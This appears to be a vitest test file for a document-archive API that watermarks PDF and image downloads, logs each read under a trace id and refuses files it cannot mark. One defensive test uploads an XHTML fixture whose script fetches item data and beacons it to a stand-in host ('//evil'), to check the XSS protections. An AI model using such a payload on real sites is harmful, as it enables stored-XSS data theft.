// test-engine: either
import crypto from 'node:crypto';
import { PDFDocument } from 'pdf-lib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { blank, inkedShare, renderPdfPages } from '../../test/helpers/images.js';
import {
  type Added,
  archiveCode,
  archivist,
  base,
  call,
  download,
  eventsByTrace,
  expectDelivered,
  samplePdf,
  sampleTiff,
  system,
  upload,
  useWatermarkApi,
} from '../../test/helpers/watermark-api.js';

// Every copy that leaves over HTTP, part 1: PDFs and images carry a visible watermark (who, when,
// what for, trace id), other formats leave unchanged; either way the read is logged under the copy's
// trace id, which the 安全审计员 can look up. The shared set-up is in test/helpers/watermark-api.ts;
// part 2 (a sensitive item's files, under an approved request) is watermark-api.sensitive.test.ts.

useWatermarkApi();

describe('downloading a watermarked copy over HTTP', () => {
  let pdf: Buffer;
  let pdfFile: Added;

  beforeAll(async () => {
    pdf = await samplePdf();
    pdfFile = await upload(archiveCode, pdf, '结算单.pdf');
    expect(pdfFile.mediaType).toBe('application/pdf');
  });

  it('marks every page of a PDF, keeps the pages, puts the trace id in its metadata', async () => {
    const got = await download(archiveCode, pdfFile.fileNumber, { purpose: '复核报销' });
    const trace = expectDelivered(got, pdfFile, 'visible');
    expect(got.headers.get('content-type')).toBe('application/pdf');
    const disposition = got.headers.get('content-disposition') as string;
    expect(disposition).toMatch(/^attachment;/);
    expect(disposition).toContain(encodeURIComponent('结算单.pdf'));
    expect(got.body.equals(pdf)).toBe(false);

    const copy = await PDFDocument.load(got.body);
    expect(copy.getPageCount()).toBe(2);
    expect(copy.getPages().map((page) => [page.getWidth(), page.getHeight()])).toEqual([
      [595, 842],
      [842, 595],
    ]);
    expect(copy.getKeywords()).toContain(trace);
    expect(copy.getSubject()).toContain(trace);

    const before = renderPdfPages(pdf);
    const after = renderPdfPages(got.body);
    expect(after).toHaveLength(2);
    for (const [index, rendered] of after.entries())
      expect(await inkedShare(rendered)).toBeGreaterThan((await inkedShare(before[index] as Buffer)) + 0.01);
  });

  it('gives every download its own trace id, each found once in the audit trail with its purpose', async () => {
    const first = await download(archiveCode, pdfFile.fileNumber, { purpose: '核对结算金额' });
    const second = await download(archiveCode, pdfFile.fileNumber);
    const firstTrace = expectDelivered(first, pdfFile, 'visible');
    const secondTrace = expectDelivered(second, pdfFile, 'visible');
    expect(firstTrace).not.toBe(secondTrace);
    expect(first.body.equals(second.body)).toBe(false);

    const found = await eventsByTrace(firstTrace);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      actor: archivist.username,
      action: 'file.read',
      subject: `item:${archiveCode}`,
      purpose: '核对结算金额',
      grantId: null,
      payload: {
        fileNumber: pdfFile.fileNumber,
        digest: pdfFile.digest,
        grantId: null,
        purpose: '核对结算金额',
        traceId: firstTrace,
      },
    });
    // Without a purpose (and no grant) the event says none; the id is read back case-insensitively.
    const unstated = await eventsByTrace(secondTrace.toLowerCase());
    expect(unstated).toHaveLength(1);
    expect(unstated[0]).toMatchObject({
      actor: archivist.username,
      action: 'file.read',
      purpose: null,
      payload: { traceId: secondTrace, purpose: null },
    });
    expect(await eventsByTrace('YD-0000-0000-00')).toEqual([]);
    // The trail is the auditor's alone.
    const denied = await call(`${base}/api/v1/audit/events?trace=${firstTrace}`, archivist);
    expect(denied.status).toBe(403);
  });

  it('serves the copy inline when asked, for viewing in the browser', async () => {
    const got = await download(archiveCode, pdfFile.fileNumber, { inline: 'true', purpose: '在线查看' });
    expectDelivered(got, pdfFile, 'visible');
    expect(got.headers.get('content-disposition')).toMatch(/^inline; /);
    expect((await PDFDocument.load(got.body)).getPageCount()).toBe(2);
  });

  it('marks a PNG in place, keeping its size and type', async () => {
    const png = await blank(600, 400).png().toBuffer();
    const added = await upload(archiveCode, png, '报销单.png');
    expect(added.mediaType).toBe('image/png');
    const got = await download(archiveCode, added.fileNumber, { purpose: '复核' });
    expectDelivered(got, added, 'visible');
    expect(got.headers.get('content-type')).toBe('image/png');
    expect(got.headers.get('content-disposition')).toContain(encodeURIComponent('报销单.png'));
    expect(got.body.equals(png)).toBe(false);
    const meta = await sharp(got.body).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['png', 600, 400]);
    expect(await inkedShare(png)).toBe(0);
    expect(await inkedShare(got.body)).toBeGreaterThan(0.01);
  });

  it('marks a JPEG and keeps it a JPEG', async () => {
    const jpeg = await blank(500, 300).jpeg().toBuffer();
    const added = await upload(archiveCode, jpeg, 'scan.jpg');
    expect(added.mediaType).toBe('image/jpeg');
    const got = await download(archiveCode, added.fileNumber);
    expectDelivered(got, added, 'visible');
    expect(got.headers.get('content-type')).toBe('image/jpeg');
    expect(got.headers.get('content-disposition')).toContain('scan.jpg');
    expect(got.body.equals(jpeg)).toBe(false);
    const meta = await sharp(got.body).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['jpeg', 500, 300]);
    expect(await inkedShare(got.body)).toBeGreaterThan(0.01);
  });

  it('delivers a two-page TIFF as a PDF named .pdf with both pages marked', async () => {
    const tiff = await sampleTiff();
    const added = await upload(archiveCode, tiff, '病历扫描.tif');
    expect(added.mediaType).toBe('image/tiff');
    const got = await download(archiveCode, added.fileNumber, { purpose: '调阅病历' });
    const trace = expectDelivered(got, added, 'visible');
    expect(got.headers.get('content-type')).toBe('application/pdf');
    const disposition = got.headers.get('content-disposition') as string;
    expect(disposition).toContain(encodeURIComponent('病历扫描.pdf'));
    expect(disposition).not.toContain('.tif');
    const copy = await PDFDocument.load(got.body);
    expect(copy.getPageCount()).toBe(2);
    // 620 × 877 pixels at 75 dpi: A4.
    expect(Math.round(copy.getPage(0).getWidth())).toBe(595);
    const pages = renderPdfPages(got.body);
    expect(pages).toHaveLength(2);
    for (const page of pages) expect(await inkedShare(page)).toBeGreaterThan(0.01);
    const found = await eventsByTrace(trace);
    expect(found).toHaveLength(1);
    expect(found[0]?.payload).toMatchObject({ digest: added.digest, purpose: '调阅病历', traceId: trace });
  });

  it('delivers a GIF as a marked PNG named .png', async () => {
    const gif = await blank(300, 200).gif().toBuffer();
    const added = await upload(archiveCode, gif, '票据.gif');
    expect(added.mediaType).toBe('image/gif');
    const got = await download(archiveCode, added.fileNumber);
    expectDelivered(got, added, 'visible');
    expect(got.headers.get('content-type')).toBe('image/png');
    expect(got.headers.get('content-disposition')).toContain(encodeURIComponent('票据.png'));
    const meta = await sharp(got.body).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['png', 300, 200]);
    expect(await inkedShare(got.body)).toBeGreaterThan(0.01);
  });

  // WebP is recognised by its RIFF/WEBP signature, so its copies are marked like any other image.
  it('marks a WebP image in place', async () => {
    const webp = await blank(300, 200).webp().toBuffer();
    const added = await upload(archiveCode, webp, '报销单.webp');
    const got = await download(archiveCode, added.fileNumber);
    expect(got.status).toBe(200);
    expect(got.headers.get('x-yidang-watermark')).toBe('visible');
    expect(got.headers.get('content-type')).toBe('image/webp');
  });

  // An uploaded XHTML-in-XML with a script must not run in the API's origin (stored XSS): copies are
  // sent with nosniff and a sandboxing content security policy.
  it('does not let an unmarked XML file run as a page in the browser', async () => {
    const xhtml = Buffer.from(
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' +
        '<script>fetch("/api/v1/items").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))</script>' +
        '</body></html>',
    );
    const added = await upload(archiveCode, xhtml, '结算清单.xml');
    expect(added.mediaType).toBe('application/xml');
    const got = await download(archiveCode, added.fileNumber, { inline: 'true' });
    expectDelivered(got, added, 'none');
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    const sandboxed = /sandbox/.test(got.headers.get('content-security-policy') ?? '');
    const attachment = (got.headers.get('content-disposition') ?? '').startsWith('attachment');
    expect(sandboxed || attachment).toBe(true);
  });

  it('streams a text file unchanged, unmarked but still traced', async () => {
    const text = Buffer.from('医保结算清单\n合计：1234.50 元\n');
    const added = await upload(archiveCode, text, '结算说明.txt');
    expect(added.mediaType).toBe('text/plain');
    const got = await download(archiveCode, added.fileNumber, { purpose: '核对' });
    const trace = expectDelivered(got, added, 'none');
    expect(got.body.equals(text)).toBe(true);
    expect(got.headers.get('content-length')).toBe(String(text.length));
    const found = await eventsByTrace(trace);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      actor: archivist.username,
      action: 'file.read',
      purpose: '核对',
      payload: { fileNumber: added.fileNumber, digest: added.digest, traceId: trace },
    });
  });

  it('refuses a PDF it cannot mark (400 WATERMARK_FAILED in Chinese) and delivers nothing of it', async () => {
    const fake = Buffer.concat([Buffer.from('%PDF-1.7\n'), crypto.randomBytes(4096)]);
    const added = await upload(archiveCode, fake, '损坏的发票.pdf');
    expect(added.mediaType).toBe('application/pdf');
    const got = await download(archiveCode, added.fileNumber, { purpose: '复核' });
    expect(got.status).toBe(400);
    expect(got.headers.get('content-type')).toMatch(/^application\/json/);
    expect(got.headers.get('x-yidang-trace')).toBeNull();
    expect(got.headers.get('x-yidang-watermark')).toBeNull();
    expect(got.headers.get('content-disposition')).toBeNull();
    const body = JSON.parse(got.body.toString('utf8')) as { error: { code: string; message: string } };
    expect(body.error.code).toBe('WATERMARK_FAILED');
    expect(body.error.message).toContain('无法为该文件加盖水印');
    expect(body.error.message).toContain('不予导出');
    // Not a byte of the stored content in the answer.
    expect(got.body.includes(fake.subarray(9, 41))).toBe(false);
    // A copy that never left is not a read: no file.read for this file.
    const reads = await system.database.db
      .selectFrom('integrity_event')
      .select('payload')
      .where('action', '=', 'file.read')
      .where('subject', '=', `item:${archiveCode}`)
      .execute();
    const payloads = reads.map((row) => JSON.parse(String(row.payload)) as { fileNumber: number });
    expect(payloads.filter((payload) => payload.fileNumber === added.fileNumber)).toEqual([]);
  });

  it('refuses an over-long purpose before reading anything', async () => {
    const got = await download(archiveCode, pdfFile.fileNumber, { purpose: '查'.repeat(201) });
    expect(got.status).toBe(400);
    expect(got.headers.get('x-yidang-trace')).toBeNull();
  });
});
